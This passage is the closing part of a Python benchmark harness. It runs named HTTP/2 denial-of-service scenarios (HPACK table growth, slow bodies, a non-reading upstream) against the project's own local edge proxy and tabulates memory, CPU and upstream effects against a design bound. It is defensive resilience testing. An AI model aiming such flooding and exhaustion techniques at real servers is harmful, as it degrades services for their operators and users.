        "control: as hpack-table-default, one WINDOW_UPDATE per DATA frame",
        lambda p, r: hpack_table_growth(p, r, 4096, ack_every_frame=True),
    ),
    (
        "hpack-table-2^32-1",
        "requests for 10 s, client HEADER_TABLE_SIZE 2^32-1",
        lambda p, r: hpack_table_growth(p, r, 2**32 - 1),
    ),
    (
        "upload-upstream-not-reading",
        "100 x POST 10 MiB to an upstream that never reads, 6 s",
        upload_upstream_not_reading,
    ),
    (
        "slow-body",
        "100 x POST 10 MiB declared, windows filled then held",
        slow_body,
    ),
]


# Running ----------------------------------------------------------------------------


def design_bound() -> dict[str, Any]:
    """Per-connection memory the design allows, from h2.py's limits."""
    request_side = CONNECTION_WINDOW
    outboxes = MAX_STREAMS * (OUTBOX_HIGH + UPSTREAM_READ)
    # A client that grants window but does not read: what the outboxes
    # held goes into the transport's buffer before the pause takes effect.
    send_buffer = outboxes
    header_block_limit = 64 * KiB
    total = request_side + outboxes + send_buffer + header_block_limit
    return {
        "request_bodies_kib": request_side // KiB,
        "response_outboxes_kib": outboxes // KiB,
        "transport_send_buffer_kib": send_buffer // KiB,
        "header_block_kib": header_block_limit // KiB,
        "total_kib": total // KiB,
        "explanation": (
            "request bodies: one connection window (1 MiB) in all; responses: "
            "100 streams x (OUTBOX_HIGH 64 KiB + one 64 KiB upstream read before "
            "the pause); the same again in the TLS/TCP send buffer when the "
            "client stops reading; one 64 KiB header block"
        ),
    }


def edge_config(run: Path, port: int, upstream_port: int) -> Path:
    pki = make_pki(run / "pki")
    document = {
        "listeners": [
            {
                "port": port,
                "bind_addresses": [HOST],
                "type": "client",
                "tls": {
                    "certificate_path": str(pki.chain_path),
                    "private_key_path": str(pki.key_path),
                },
            }
        ],
        "upstream": f"http://{HOST}:{upstream_port}",
        "access_log": {"enabled": False},
        "timeouts": {
            "request_headers": f"{REQUEST_HEADERS_TIMEOUT:g}s",
            "body_idle": f"{BODY_IDLE_TIMEOUT:g}s",
        },
    }
    return processes.write_config(run / "edge.yaml", document)


def run_attack(
    name: str,
    description: str,
    attack: Callable[[int, AttackResult], None],
    pid: int,
    port: int,
    upstream_port: int,
) -> AttackResult:
    result = AttackResult(name, description)
    time.sleep(1.0)  # let the previous attack's connections wind down
    before = upstream_stats(upstream_port)
    reset_peak(pid)
    memory = memory_kib(pid)
    result.rss_before_kib = memory["VmRSS"]
    cpu = cpu_seconds(pid)
    started = time.monotonic()
    with RssSampler(pid) as sampler:
        try:
            attack(port, result)
        except Exception as e:  # the table says what broke
            result.answer = f"client error: {type(e).__name__}: {e}"
        result.duration_s = time.monotonic() - started
        # Until the edge is done with what the attack left it (bounded).
        settle = time.monotonic() + 10
        last = cpu_seconds(pid)
        while time.monotonic() < settle:
            time.sleep(0.3)
            now = cpu_seconds(pid)
            if now - last < 0.02:
                break
            last = now
        result.edge_cpu_s = last - cpu
    if "flood" in name or "reset" in name or "ping" in name:
        per_frame = result.edge_cpu_s / max(result.frames_sent, 1) * 1e6
        result.extra["edge_cpu_us_per_frame_sent"] = round(per_frame, 1)
        result.notes = "; ".join(
            filter(None, [result.notes, f"edge CPU {per_frame:.1f} us per frame sent"])
        )
    after_memory = memory_kib(pid)
    result.rss_peak_kib = max(sampler.peak, after_memory["VmRSS"])
    result.rss_growth_kib = result.rss_peak_kib - result.rss_before_kib
    result.hwm_growth_kib = after_memory["VmHWM"] - memory["VmHWM"]
    time.sleep(0.5)
    after = upstream_stats(upstream_port)
    result.upstream_requests = after["requests"] - before["requests"]
    result.upstream_bytes_out = after["bytes_out"] - before["bytes_out"]
    result.upstream_bytes_in = after["bytes_in"] - before["bytes_in"]
    result.serves_after = normal_request(port)
    return result


def table(results: list[AttackResult]) -> str:
    header = (
        "attack",
        "edge answered",
        "after",
        "sent",
        "edge CPU",
        "RSS peak growth",
        "HWM growth",
        "upstream reqs",
        "upstream out",
        "serves after",
    )
    rows = [header]
    for r in results:
        rows.append(
            (
                r.name,
                r.answer,
                "-" if r.after_s is None else f"{r.after_s:.2f}s",
                f"{r.frames_sent} fr / {r.bytes_sent / MiB:.1f} MiB",
                f"{r.edge_cpu_s:.2f}s",
                f"{r.rss_growth_kib / KiB:.1f} MiB",
                f"{r.hwm_growth_kib / KiB:.1f} MiB",
                str(r.upstream_requests),
                f"{r.upstream_bytes_out / MiB:.1f} MiB",
                r.serves_after,
            )
        )
    widths = [max(len(row[i]) for row in rows) for i in range(len(header))]
    lines = [
        " | ".join(c.ljust(w) for c, w in zip(row, widths, strict=True)) for row in rows
    ]
    lines.insert(1, "-+-".join("-" * w for w in widths))
    return "\n".join(lines)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", nargs="*", help="run only these attacks")
    parser.add_argument("--serve-upstream", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve_upstream:
        asyncio.run(_serve_upstream(args.serve_upstream))
        return 0

    global UPSTREAM_PORT
    selected = [a for a in ATTACKS if not args.only or a[0] in args.only]
    run = Path(tempfile.mkdtemp(prefix="h2-attacks-"))
    upstream_port = UPSTREAM_PORT = processes.free_port()
    port = processes.free_port()
    upstream = subprocess.Popen(
        [
            sys.executable,
            str(Path(__file__).resolve()),
            "--serve-upstream",
            str(upstream_port),
        ],
        stdout=subprocess.DEVNULL,
        stderr=open(run / "upstream.log", "wb"),  # noqa: SIM115
    )
    edge = None
    try:
        processes.wait_for_port(upstream_port, process=upstream)
        config = edge_config(run, port, upstream_port)
        edge = processes.start_edge(config, run / "edge.log", wait=(HOST, port))
        time.sleep(0.5)
        print(f"matrix-edge pid {edge.pid} on {HOST}:{port} (TLS, h2); run dir {run}")
        print(f"baseline normal request: {normal_request(port)}\n")
        results = []
        for name, description, attack in selected:
            result = run_attack(
                name, description, attack, edge.pid, port, upstream_port
            )
            results.append(result)
            print(
                f"{name}: {result.answer}"
                + ("" if result.after_s is None else f" after {result.after_s:.2f}s")
                + f", RSS +{result.rss_growth_kib / KiB:.1f} MiB, "
                f"upstream {result.upstream_requests} reqs, serves after: "
                f"{result.serves_after}",
                flush=True,
            )
        edge_alive = edge.popen.poll() is None
        final_memory = memory_kib(edge.pid) if edge_alive else {}
    finally:
        if edge is not None:
            edge.stop()
        upstream.terminate()
        upstream.wait(10)

    log = (run / "edge.log").read_text(errors="replace")
    problems = [
        line
        for line in log.splitlines()
        if "Traceback" in line or "Unhandled" in line or "CRITICAL" in line
    ]
    bound = design_bound()
    print()
    print(table(results))
    print()
    for r in results:
        if r.notes:
            print(f"{r.name}: {r.notes}")
    print()
    print(
        f"Design bound per connection: {bound['total_kib'] / KiB:.1f} MiB "
        f"({bound['explanation']})."
    )
    worst = max(results, key=lambda r: r.rss_growth_kib)
    print(
        f"Largest measured RSS growth: {worst.rss_growth_kib / KiB:.1f} MiB "
        f"({worst.name}); the edge process ended at "
        f"{final_memory.get('VmRSS', 0) / KiB:.1f} MiB RSS."
    )
    print(f"Tracebacks/unhandled errors in the edge's log: {len(problems)}")
    for line in problems[:20]:
        print("  " + line)

    results_dir = BENCH_DIR / "results"
    results_dir.mkdir(exist_ok=True)
    stamp = time.strftime("%Y%m%d-%H%M%S")
    document = {
        "when": stamp,
        "edge_config": {
            "request_headers_s": REQUEST_HEADERS_TIMEOUT,
            "body_idle_s": BODY_IDLE_TIMEOUT,
        },
        "design_bound": bound,
        "results": [asdict(r) for r in results],
        "edge_log_problems": problems,
        "table": table(results),
        "notes": {r.name: r.notes for r in results if r.notes},
    }
    text = json.dumps(document, indent=2) + "\n"
    (results_dir / f"h2-attacks-{stamp}.json").write_text(text)
    (results_dir / "h2-attacks-latest.json").write_text(text)
    print(f"\nWritten to {results_dir / 'h2-attacks-latest.json'}; edge log in {run}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
